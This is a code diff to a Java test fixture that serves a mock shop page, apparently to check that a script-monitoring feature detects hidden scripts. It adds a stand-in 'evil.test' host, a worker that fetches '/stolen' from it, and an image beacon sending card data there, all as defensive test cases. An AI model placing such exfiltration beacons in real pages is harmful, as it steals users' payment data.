@@ -42,6 +42,7 @@ final class MonitoredSite implements AutoCloseable {
 
   static final String CDN = "cdn.example.test";
   static final String BACKEND = "backend.example.test";
+  static final String EVIL = "evil.test";
 
   private static final int PATIENCE_SECONDS = 300;
   private static final String REPORTS = "/cdn-cgi/script_monitor/report";
@@ -148,7 +149,15 @@ final class MonitoredSite implements AutoCloseable {
       byte[] body = exchange.getRequestBody().readAllBytes();
       switch (exchange.getRequestURI().getPath()) {
         case REPORTS -> takeReport(exchange, body);
-        case "/" -> sendPage(exchange);
+        case "/" -> sendPage(exchange, page());
+        case "/hidden" -> sendPage(exchange, hiddenPage());
+        case "/worker.js" ->
+            sendMonitored(
+                exchange,
+                "text/javascript",
+                "importScripts('%s/imported.js'); fetch('%s/stolen').catch(() => {});"
+                    .formatted(origin(CDN), origin(EVIL)));
+        case "/imported.js", "/framed.js" -> send(exchange, "text/javascript", "self.ran = true;");
         case "/own.js" -> send(exchange, "text/javascript", "window.ownHasRun = true; " + fetch());
         case "/lib.js" -> send(exchange, "text/javascript", "window.libraryHasRun = true;");
         case "/data" -> {
@@ -164,28 +173,47 @@ final class MonitoredSite implements AutoCloseable {
     return "fetch('" + origin(BACKEND) + "/data?session=7').catch(() => {});";
   }
 
-  private void sendPage(HttpExchange exchange) throws IOException {
+  private String page() {
+    return """
+    <!doctype html><title>Shop</title>
+    <script>window.inlineHasRun = true;</script>
+    <script src="/own.js"></script>
+    <script src="%s/lib.js"></script>
+    """
+        .formatted(origin(CDN));
+  }
+
+  /** Scripts of a worker and of a frame without an address, and an image that carries data away. */
+  private String hiddenPage() {
+    return """
+    <!doctype html><title>Shop</title>
+    <script>
+      new Worker('/worker.js');
+      new Image().src = '%s/image?card=1';
+    </script>
+    <iframe srcdoc="<script src='%s/framed.js'></script>"></iframe>
+    """
+        .formatted(origin(EVIL), origin(CDN));
+  }
+
+  private void sendPage(HttpExchange exchange, String page) throws IOException {
     var headers = exchange.getResponseHeaders();
-    headers.set("Content-Type", "text/html; charset=utf-8");
     headers.set("Set-Cookie", "basket=1; Path=/; HttpOnly; SameSite=Strict");
     if (!ownPolicy.isEmpty()) {
       headers.add("Content-Security-Policy", ownPolicy);
     }
+    sendMonitored(exchange, "text/html; charset=utf-8", page);
+  }
+
+  private void sendMonitored(HttpExchange exchange, String type, String text) throws IOException {
+    var headers = exchange.getResponseHeaders();
+    headers.set("Content-Type", type);
     String host = exchange.getRequestHeaders().getFirst("Host");
     String url = origin(host.split(":", 2)[0]) + exchange.getRequestURI();
     ApiRequest request = request(exchange, url, new byte[0]);
     api.pageHeaders(zone.id(), request, Map.copyOf(headers))
         .forEach(header -> headers.add(header.name(), header.value()));
-    send(
-        exchange,
-        "text/html; charset=utf-8",
-        """
-        <!doctype html><title>Shop</title>
-        <script>window.inlineHasRun = true;</script>
-        <script src="/own.js"></script>
-        <script src="%s/lib.js"></script>
-        """
-            .formatted(origin(CDN)));
+    send(exchange, type, text);
   }
 
   private void takeReport(HttpExchange exchange, byte[] body) throws IOException {
